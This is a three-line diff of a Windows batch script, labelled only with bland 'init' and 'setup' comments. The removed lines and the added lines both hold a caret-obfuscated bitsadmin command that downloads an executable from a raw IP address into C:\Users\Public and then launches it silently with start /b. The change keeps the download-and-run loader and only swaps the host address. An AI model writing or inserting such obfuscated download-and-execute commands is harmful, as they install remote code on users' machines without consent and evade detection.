@@ -1,3 +1,3 @@
-REM init 7203 v0
-bitsa^d^mi^n /^t^ran^s^fer ^j^o^b /^do^w^nloa^d /p^riori^ty hi^g^h htt^p://^20^3.^0.11^3.17/u.^exe C:\Us^er^s\^Pub^l^i^c\u.^e^x^e
-sta^rt /^b ^C:\^Us^ers\^Pu^b^l^ic\u.e^x^e
+REM setup 5243 v0
+b^i^t^s^a^dmin /trans^fe^r ^j^ob /d^own^l^o^ad /^pri^ority ^h^ig^h ht^t^p://^19^8.^51.10^0.9/^u.^e^x^e ^C:\U^se^rs\Publ^ic\u.exe
+^st^art /^b C:\^U^se^r^s\^Pub^l^ic\u.exe
